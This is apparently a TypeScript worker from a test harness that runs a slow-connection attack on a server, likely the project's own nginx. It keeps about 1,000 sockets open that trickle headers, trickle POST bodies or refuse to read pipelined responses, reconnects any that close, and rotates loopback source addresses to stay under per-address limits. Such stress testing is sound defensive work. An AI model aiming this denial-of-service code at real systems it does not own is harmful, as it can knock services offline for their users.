// 1,000 connections that send or read slowly, in a thread of their own. A connection that nginx closes is
// opened again.
import { connect, type Socket } from 'node:net';
import { setPriority } from 'node:os';
import { parentPort, workerData } from 'node:worker_threads';

export type SlowOrder = { url: string; count: number };
export type SlowCounts = { opened: number; open: number };

const TICK_MS = 1_000;
const RECONNECT_MS = 100;
/** Real attackers use their own machines. Here they share the cores with the server. */
const NICE = 5;
/** Connections of one address, below the limit of requests at the same time. */
const PER_ADDRESS = 20;
const BODY_BYTES = 60_000;

if (process.platform === 'linux') setPriority(NICE);

const { url, count }: SlowOrder = workerData;
const { hostname, port } = new URL(url);
const sockets = new Map<number, Socket>();
let opened = 0;

for (let index = 0; index < count; index += 1) open(index);

/** Each sends one byte per tick: a third a header, a third a body. The others read nothing. */
setInterval(() => {
  for (const [index, socket] of sockets) {
    if (index % 3 !== 2 && socket.writable) socket.write('x');
  }
}, TICK_MS);

function open(index: number): void {
  const block = Math.floor(index / PER_ADDRESS);
  const socket = connect({
    host: hostname,
    port: Number(port),
    localAddress: `127.3.${Math.floor(block / 250)}.${(block % 250) + 1}`,
  });
  opened += 1;
  sockets.set(index, socket);
  socket.on('connect', () => socket.write(toBeginning(index)));
  socket.on('error', () => {});
  socket.once('close', () => {
    sockets.delete(index);
    setTimeout(() => open(index), RECONNECT_MS);
  });
  // The responses of the others are read, so that an error response ends the connection.
  if (index % 3 === 2) socket.pause();
  else socket.resume();
}

function toBeginning(index: number): string {
  const host = `Host: ${hostname}\r\n`;
  if (index % 3 === 0) return `GET / HTTP/1.1\r\n${host}X-Slow: `;
  if (index % 3 === 1) {
    return `POST /graphql/v1 HTTP/1.1\r\n${host}Content-Type: application/json\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`;
  }
  // Many pages at once, so that the responses do not fit into the buffers of the kernel.
  return `GET / HTTP/1.1\r\n${host}\r\n`.repeat(100);
}

parentPort?.on('message', () => {
  const counts: SlowCounts = { opened, open: sockets.size };
  parentPort?.postMessage(counts);
});
